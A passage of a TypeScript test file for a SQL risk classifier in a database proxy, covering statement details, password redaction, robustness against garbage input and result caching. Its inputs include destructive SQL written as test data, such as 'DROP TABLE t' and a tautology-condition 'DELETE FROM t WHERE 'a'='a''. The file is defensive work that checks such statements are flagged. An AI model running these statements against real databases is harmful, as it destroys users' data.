  for (const f of c.flags ?? []) assert.ok(r.facts.flags.includes(f), `flag ${f} missing: ${show}`);
  for (const f of c.not ?? []) assert.ok(!r.facts.flags.includes(f), `flag ${f} unexpected: ${show}`);
  if (c.objects) assert.deepEqual([...r.facts.objects].sort(), [...c.objects].sort(), `objects: ${show}`);
}

for (const [group, cases] of Object.entries({ ordinary, functions, high, critical, evasions, benign })) {
  describe(`sql classifier: ${group}`, () => {
    for (const c of cases) it(c.name ? `${c.name}: ${JSON.stringify(c.sql)}` : JSON.stringify(c.sql), () => check(c));
  });
}

describe('sql classifier: details', () => {
  it('reports SET and set_config settings for the proxy', () => {
    const r = classifier.classify("SET airlock.reason = 'INC-42'; SELECT set_config('application_name', 'x', false)");
    const d = sqlDetails(r);
    assert.deepEqual(d.settings, [
      { name: 'airlock.reason', value: 'INC-42' },
      { name: 'application_name', value: 'x' },
    ]);
    assert.deepEqual(
      d.statements.map((s) => s.kind),
      ['set', 'select'],
    );
  });

  it('reports PREPARE text, EXECUTE and DEALLOCATE names', () => {
    const r = classifier.classify('PREPARE p (int) AS DELETE FROM t WHERE id = $1; EXECUTE p(1); DEALLOCATE p; DEALLOCATE ALL');
    const d = sqlDetails(r);
    assert.deepEqual(d.prepare, [{ name: 'p', text: 'DELETE FROM t WHERE id = $1' }]);
    assert.deepEqual(d.execute, ['p']);
    assert.deepEqual(d.deallocate, ['p', 'ALL']);
    assert.equal(r.risk, 'medium');
  });

  it('keeps statement texts intact around multi-byte characters', () => {
    const d = sqlDetails(classifier.classify("SELECT 'é'; DELETE FROM t"));
    assert.deepEqual(d.statements, [
      { kind: 'select', text: "SELECT 'é'" },
      { kind: 'delete', text: 'DELETE FROM t' },
    ]);
  });

  it('does not copy role statements (passwords) into details', () => {
    const d = sqlDetails(classifier.classify("ALTER USER x WITH PASSWORD 'secret'"));
    assert.ok(!JSON.stringify(d).includes('secret'));
  });
});

describe('sql classifier: robustness', () => {
  it('never throws on garbage and classifies it critical', () => {
    const inputs = ['\u0001\u0002', ')))(((', 'SELECT ' + '('.repeat(5000), "'".repeat(1001), '$$', 'DO $$', '\uD800', ';;;;'];
    for (const s of inputs) {
      const r = classifier.classify(s);
      assert.ok(r.risk === 'critical' || r.facts.flags.includes('empty'), `${JSON.stringify(s.slice(0, 20))}: ${JSON.stringify(r)}`);
    }
  });

  it('classifies a 1 MB statement (not cached) and keeps working after a too-deep one', () => {
    const big = `SELECT '${'x'.repeat(1 << 20)}' FROM t; DROP TABLE t`;
    assert.equal(classifier.classify(big).risk, 'critical');
    const deep = `SELECT ${Array(100_000).fill('1').join('+')}`;
    assert.equal(classifier.classify(deep).risk, 'critical');
    const before = classifier.cacheStats.size;
    classifier.classify(`SELECT '${'y'.repeat(1 << 20)}'`);
    assert.equal(classifier.cacheStats.size, before);
    assert.equal(classifier.classify('SELECT 42').risk, 'low');
  });

  it('deep-freezes results', () => {
    const r = classifier.classify('DELETE FROM frozen_t');
    assert.ok(Object.isFrozen(r) && Object.isFrozen(r.facts) && Object.isFrozen(r.facts.flags));
    assert.ok(Object.isFrozen(sqlDetails(r).statements[0]));
    assert.throws(() => (r.facts.flags as string[]).push('x'));
  });
});

describe('sql classifier: cache', () => {
  it('returns the same object for the same text', async () => {
    const c = await createSqlClassifier({ cacheSize: 4 });
    const a = c.classify('SELECT * FROM cached');
    const b = c.classify('SELECT * FROM cached');
    assert.equal(a, b);
    assert.deepEqual(c.cacheStats, { hits: 1, misses: 1, size: 1 });
  });

  it("never lets WHERE 'a'='a' and WHERE 'a'='b' share an entry", async () => {
    const c = await createSqlClassifier();
    const yes = c.classify("DELETE FROM t WHERE 'a'='a'");
    const no = c.classify("DELETE FROM t WHERE 'a'='b'");
    assert.equal(yes.risk, 'high');
    assert.equal(no.risk, 'medium');
    assert.equal(c.classify("DELETE FROM t WHERE 'a'='a'"), yes);
    assert.equal(c.classify("DELETE FROM t WHERE 'a'='b'"), no);
  });

  it('evicts the least recently used entry', async () => {
    const c = await createSqlClassifier({ cacheSize: 2 });
    const one = c.classify('SELECT 1');
    c.classify('SELECT 2');
    c.classify('SELECT 1');
    c.classify('SELECT 3');
    assert.equal(c.cacheStats.size, 2);
    assert.equal(c.classify('SELECT 1'), one, 'recently used entry kept');
    const misses = c.cacheStats.misses;
    c.classify('SELECT 2');
    assert.equal(c.cacheStats.misses, misses + 1, 'least recently used entry evicted');
  });

  it('can be disabled and rejects a bad size', async () => {
    const c = await createSqlClassifier({ cacheSize: 0 });
    c.classify('SELECT 1');
    assert.equal(c.cacheStats.size, 0);
    await assert.rejects(createSqlClassifier({ cacheSize: -1 }), TypeError);
  });

  it('measures hit and miss cost (printed, not asserted)', async () => {
    const c = await createSqlClassifier({ cacheSize: 100 });
    const sql = 'UPDATE pgbench_accounts SET abalance = abalance + 1 WHERE aid = 42';
    const n = 20_000;
    c.classify(sql);
    let t = process.hrtime.bigint();
    for (let i = 0; i < n; i++) c.classify(sql);
    const hitNs = Number(process.hrtime.bigint() - t) / n;
    const misses = Array.from({ length: 2000 }, (_, i) => `UPDATE pgbench_accounts SET abalance = abalance + ${i} WHERE aid = ${i}`);
    t = process.hrtime.bigint();
    for (const m of misses) c.classify(m);
    const missNs = Number(process.hrtime.bigint() - t) / misses.length;
    process.stdout.write(`# sql classifier: cache hit ${(hitNs / 1000).toFixed(2)} µs, miss ${(missNs / 1000).toFixed(1)} µs\n`);
  });
});
